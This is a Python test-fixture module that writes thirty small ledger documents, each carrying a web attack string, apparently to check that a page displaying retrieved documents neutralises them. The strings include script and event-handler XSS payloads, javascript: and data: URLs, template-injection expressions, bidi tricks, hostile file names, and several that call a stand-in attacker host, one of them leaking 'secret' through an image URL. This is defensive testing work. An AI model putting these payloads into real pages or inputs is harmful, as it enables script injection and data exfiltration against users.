"""Documents that attack the page that shows them, and a question that brings each up."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

__all__ = ["HOSTILE", "HostileDocument", "write_hostile"]

_AWAY = "http://attacker.invalid"


@dataclass(frozen=True, slots=True)
class HostileDocument:
    """An attack.

    Attributes:
        name: Its file name, an attack itself in some.
        text: What the file holds.
        subject: A word of its own, by which it is asked for.
    """

    name: str
    text: str
    subject: str

    @property
    def question(self) -> str:
        """A question whose best evidence is this document."""
        return f"What does the {self.subject} ledger state?"


def _stating(subject: str, attack: str) -> str:
    return (
        f"The {subject} ledger states a sum of 7 crowns. The {subject} ledger has {attack} in it.\n"
    )


_ATTACKS = (
    ("<script>owned=1</script>", "md"),
    ("</script><script>owned=1</script>", "txt"),
    ("<img src=x onerror=owned=1>", "md"),
    ("<svg onload=owned=1></svg>", "txt"),
    ("<svg><script>owned=1</script></svg>", "md"),
    ("[a link](javascript:owned=1)", "md"),
    ("<a href='javascript:owned=1' data-owned>here</a>", "md"),
    ("[data](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)", "md"),
    (f"![picture]({_AWAY}/pixel.png?q=secret)", "md"),
    (f"<img src='{_AWAY}/pixel.png'>", "txt"),
    (f"<link rel=stylesheet href='{_AWAY}/x.css'>", "md"),
    (f"<iframe src='{_AWAY}'></iframe>", "txt"),
    ("<style>*{display:none}</style>", "md"),
    ("<body onload=owned=1>", "txt"),
    ("<details open ontoggle=owned=1>", "md"),
    ("<input autofocus onfocus=owned=1>", "md"),
    ("\" onmouseover=\"owned=1\" x=\"", "txt"),
    ("' onfocus='owned=1' tabindex='0", "txt"),
    ("{{constructor.constructor('owned=1')()}}", "md"),
    ("${(()=>{owned=1})()}", "md"),
    ("{{#each this}}<b data-owned>{{/each}}", "txt"),
    ("w" * 5000, "txt"),
    ("\u202egnissap drow\u202c and \u2066hidden\u2069", "txt"),
    ("[1][2][99] and ✓ supported 1.00", "md"),
    ("</blockquote></li></ol></aside></article><h1 data-owned>Owned</h1>", "txt"),
    (f"<form action='{_AWAY}'><button>Send</button></form>", "md"),
    (f"<meta http-equiv=refresh content='0;url={_AWAY}'>", "txt"),
    (f"<base href='{_AWAY}/'>", "md"),
    ("<!-- ]]> --><![CDATA[<b data-owned>]]>", "txt"),
    ("\u200b\ufeff\U000e0041 invisible, \u2028 and \u0085 breaks", "txt"),
)  # fmt: skip
_NAMES = {
    2: "<img src=x onerror=owned=1>.md",
    5: "javascript:owned=1.md",
    16: '" onmouseover="owned=1.txt',
    18: "{{7*7}}.md",
    22: "\u202etxt.exe.txt",
    27: "a&amp;b<b data-owned>.md",
}
_SUBJECTS = (
    "amber", "basil", "cedar", "delta", "ember", "fjord", "grove", "heron", "indigo", "juniper",
    "kelp", "lotus", "maple", "nectar", "olive", "pewter", "quartz", "raven", "saffron", "tulip",
    "umber", "violet", "willow", "yarrow", "zephyr", "bronze", "cobalt", "dune", "falcon", "garnet",
)  # fmt: skip


def _document(at: int, subject: str, attack: str, ending: str) -> HostileDocument:
    heading = f"# {attack} {subject}\n\n" if ending == "md" else ""
    name = _NAMES.get(at, f"{subject}.{ending}")
    return HostileDocument(name=name, text=heading + _stating(subject, attack), subject=subject)


HOSTILE = tuple(
    _document(at, subject, *attack)
    for at, (subject, attack) in enumerate(zip(_SUBJECTS, _ATTACKS, strict=True))
)
"""The attacks: markup, handlers, addresses, templates, huge words, bidi, fake markers, names."""


def write_hostile(folder: Path) -> list[Path]:
    """Write the documents into a folder and return their paths."""
    folder.mkdir(parents=True)
    for document in HOSTILE:
        (folder / document.name).write_text(document.text, encoding="utf-8")
    return [folder / document.name for document in HOSTILE]
